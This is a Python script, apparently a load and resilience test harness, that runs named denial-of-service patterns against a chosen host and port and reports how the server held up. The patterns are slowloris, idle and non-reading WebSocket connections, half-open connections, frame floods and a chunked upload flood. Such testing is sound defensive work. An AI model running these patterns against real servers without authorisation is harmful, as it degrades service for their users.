#!/usr/bin/python3
"""Does a server ill for a while, and tells as JSON what became of it.

  attack.py NAME HOST PORT SECONDS [--count N] [--stay]

`opened` and `refused` are connections, `ended_by_server` those that it let go of, `longest_s` how long it bore with the one that it
let go of last, `answers` the statuses and close codes that it gave. It stands back for others who want a CPU: on the machine that it
attacks it must not do by that what it cannot do from elsewhere. With --stay it says "there" once all connections stand.
"""

import argparse
import asyncio
import collections
import json
import os
import time

KEY = "dGhlIHNhbXBsZSBub25jZQ=="
RECONNECTS_PER_SECOND = 20
MASK = bytes(4)


def handshake(query=""):
    return (f"GET /ws{query} HTTP/1.1\r\nHost: localhost\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
            f"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: {KEY}\r\n\r\n").encode()


def frame(opcode, payload):
    assert len(payload) < 126
    return bytes([0x80 | opcode, 0x80 | len(payload)]) + MASK + payload


def beside(work):
    """A task whose failure is no news: the server may end a connection at any time."""
    task = asyncio.ensure_future(work)
    task.add_done_callback(lambda done: done.cancelled() or done.exception())
    return task


class Attack:
    def __init__(self, given):
        self.given = given
        self.until = time.monotonic() + given.seconds
        self.opened = self.refused = self.ended_by_server = 0
        self.longest_s = 0.0
        self.answers = collections.Counter()

    def is_over(self):
        return time.monotonic() >= self.until

    def left_s(self):
        return max(0.0, self.until - time.monotonic())

    async def again(self, once):
        """One of the connections, and another when the server let go of it."""
        while not self.is_over():
            began = time.monotonic()
            try:
                reader, writer = await asyncio.wait_for(
                    asyncio.open_connection(self.given.host, self.given.port, limit=4096), self.left_s())
            except (OSError, asyncio.TimeoutError):
                self.refused += 1
                await asyncio.sleep(min(1.0, self.left_s()))
                continue
            self.opened += 1
            try:
                await asyncio.wait_for(once(reader, writer), self.left_s())
            except (OSError, asyncio.TimeoutError, asyncio.IncompleteReadError):
                pass
            if not self.is_over():
                self.ended_by_server += 1
                self.longest_s = max(self.longest_s, time.monotonic() - began)
            writer.transport.abort()
            await asyncio.sleep(min(self.given.count / RECONNECTS_PER_SECOND, self.left_s()))

    async def status(self, reader):
        """Of the answer; whoever has none is not told one."""
        line = await reader.readline()
        words = line.split()
        self.answers[words[1].decode() if len(words) > 1 else "no answer"] += 1
        return line

    async def slowloris(self, reader, writer):
        for byte in b"GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: " + b"a" * 100_000:
            writer.write(bytes([byte]))
            await writer.drain()
            if reader.at_eof():
                return
            await asyncio.sleep(0.5)

    async def idle(self, reader, writer):
        if await self.status(reader):
            await reader.read()

    async def never_reads(self, reader, writer):
        writer.write(handshake())
        await self.status(reader)
        reader._transport.pause_reading()
        await asyncio.sleep(3600)

    async def half_open(self, reader, writer):
        writer.write(handshake(self.given.query))
        await self.status(reader)
        if self.given.query:
            await asyncio.sleep(3600)
        while await reader.read(65536):
            pass

    async def flood(self, reader, writer, sent):
        writer.write(handshake("?subscribe=none"))
        await self.status(reader)
        pump = beside(self.drink(reader))
        try:
            while not pump.done():
                writer.write(sent)
                await writer.drain()
                await asyncio.sleep(0)
        finally:
            pump.cancel()

    @staticmethod
    async def drink(reader):
        while await reader.read(65536):
            pass

    async def pings(self, reader, writer):
        await self.flood(reader, writer, frame(9, b"a" * 100) * 50)

    async def messages(self, reader, writer):
        await self.flood(reader, writer, frame(1, b'{"type":"ping","client_time_us":1}') * 50)

    async def uploads(self, reader, writer):
        writer.write(b"PUT /cameras/vision/frame?takeover=true HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n")
        chunk = b"10000\r\n" + bytes(65536) + b"\r\n"
        answer = beside(self.status(reader))
        while not answer.done():
            writer.write(chunk)
            await writer.drain()
            await asyncio.sleep(0)

    async def run(self):
        name = self.given.name.replace("-", "_")
        once = getattr(self, {"connections": "idle", "descriptors": "idle"}.get(name, name))
        peers = [asyncio.ensure_future(self.again(once)) for _ in range(self.given.count)]
        if self.given.stay:
            while sum(self.answers.values()) < self.given.count:
                await asyncio.sleep(0.05)
            print("there", flush=True)
        await asyncio.gather(*peers)


def main():
    arguments = argparse.ArgumentParser()
    arguments.add_argument("name")
    arguments.add_argument("host")
    arguments.add_argument("port", type=int)
    arguments.add_argument("seconds", type=float)
    arguments.add_argument("--count", type=int, default=20)
    arguments.add_argument("--query", default="")
    arguments.add_argument("--stay", action="store_true")
    given = arguments.parse_args()
    os.nice(19)
    attack = Attack(given)
    asyncio.run(attack.run())
    print(json.dumps({"opened": attack.opened, "refused": attack.refused, "ended_by_server": attack.ended_by_server,
                      "longest_s": round(attack.longest_s, 1), "answers": dict(attack.answers)}))


if __name__ == "__main__":
    main()
